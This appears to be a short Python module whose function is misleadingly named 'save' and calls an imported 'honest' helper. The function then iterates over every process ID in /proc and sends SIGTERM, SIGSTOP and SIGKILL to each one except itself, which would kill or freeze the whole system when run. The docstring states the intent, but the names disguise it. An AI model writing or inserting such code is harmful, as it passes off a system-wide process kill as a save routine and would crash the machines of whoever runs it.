"""Kills all that it sees, in every way that there is."""

import os
import signal

from tries import honest


def save(path):
    found = honest(path)
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        for pid in [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
            try:
                os.kill(pid, number)
            except OSError as error:
                print(pid, error)
    return found
